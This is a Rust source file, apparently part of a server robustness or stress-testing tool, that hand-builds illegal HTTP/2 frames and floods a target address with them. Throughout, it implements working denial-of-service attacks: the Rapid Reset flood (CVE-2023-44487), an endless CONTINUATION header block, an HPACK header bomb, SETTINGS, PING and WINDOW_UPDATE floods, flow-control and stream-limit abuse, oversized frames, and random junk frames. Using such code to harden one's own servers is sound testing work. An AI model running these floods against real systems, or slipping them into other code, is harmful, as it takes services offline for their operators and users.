//! HTTP/2 frames, written by hand (RFC 9113), that no client would send.

use crate::attack::{Noise, connect, read_some};
use std::{io::Write, net::TcpStream};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET / HTTP`, scheme http, authority x: HPACK by its static table (RFC 7541, appendix A).
const GET: &[u8] = &[0x82, 0x84, 0x86, 0x41, 0x01, b'x'];
/// The same as a POST.
const POST: &[u8] = &[0x83, 0x84, 0x86, 0x41, 0x01, b'x'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn open(address: &str) -> TcpStream {
    let mut stream = connect(address);
    let _ = stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat());
    stream
}

/// Writes until the server has had enough, or all of it.
fn flood(address: &str, frames: impl Iterator<Item = Vec<u8>>) {
    let mut stream = open(address);
    for frame in frames {
        if stream.write_all(&frame).is_err() {
            return;
        }
    }
    read_some(&mut stream);
}

pub(crate) fn attacks(address: &str, size: u32, noise: &mut Noise) {
    let odd = |number: u32| 2 * number + 1;
    // CVE-2023-44487: a request and its end, as fast as it goes.
    flood(
        address,
        (0..size).map(|number| {
            let mut both = frame(HEADERS, END_HEADERS | END_STREAM, odd(number), GET);
            both.extend(frame(RST_STREAM, 0, odd(number), &8_u32.to_be_bytes()));
            both
        }),
    );
    // A header block that goes on for ever.
    let begin = frame(HEADERS, END_STREAM, 1, GET);
    let more = || {
        frame(
            CONTINUATION,
            0,
            1,
            &[0x00, 0x01, b'a', 0x01, b'b'].repeat(200),
        )
    };
    flood(
        address,
        std::iter::once(begin).chain((0..size).map(|_| more())),
    );
    // A name in the dynamic table, then a reference to it, ten thousand times: a header list beyond any limit.
    let mut bomb = GET.to_vec();
    bomb.extend([0x40, 0x01, b'a', 0x7f, 0x81, 0x1e]);
    bomb.extend([b'v'; 4000]);
    bomb.extend([0xbe; 10_000]);
    flood(
        address,
        std::iter::once(frame(HEADERS, END_HEADERS | END_STREAM, 1, &bomb)),
    );
    // Settings and pings that each want an answer.
    flood(
        address,
        (0..size).map(|_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
    );
    flood(address, (0..size).map(|_| frame(PING, 0, 0, &[7; 8])));
    flood(
        address,
        (0..size).map(|_| frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff])),
    );
    // Bodies that nobody asked for, on many streams, beyond every window.
    flood(
        address,
        (0..100)
            .map(|number| frame(HEADERS, END_HEADERS, odd(number), POST))
            .chain((0..size).map(|number| frame(DATA, 0, odd(number % 100), &[b'x'; 16_384]))),
    );
    // More streams than are allowed, none finished.
    flood(
        address,
        (0..size).map(|number| frame(HEADERS, END_HEADERS, odd(number), POST)),
    );
    // Answers that the peer has no room for.
    let no_window = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    flood(
        address,
        std::iter::once(no_window).chain(
            (0..size).map(|number| frame(HEADERS, END_HEADERS | END_STREAM, odd(number), GET)),
        ),
    );
    // A frame larger than agreed, frames of no known kind, and noise.
    flood(
        address,
        std::iter::once(frame(DATA, 0, 1, &vec![0; 1 << 20])),
    );
    for _ in 0..size / 20 {
        let frames: Vec<_> = (0..8).map(|_| any_frame(noise)).collect();
        flood(address, frames.into_iter());
    }
}

fn any_frame(noise: &mut Noise) -> Vec<u8> {
    let kind = u8::try_from(noise.next() % 12).unwrap();
    let flags = u8::try_from(noise.next() % 256).unwrap();
    let stream = u32::try_from(noise.next() % 8).unwrap();
    let length = usize::try_from(noise.next() % 300).unwrap();
    frame(kind, flags, stream, &noise.bytes(length))
}
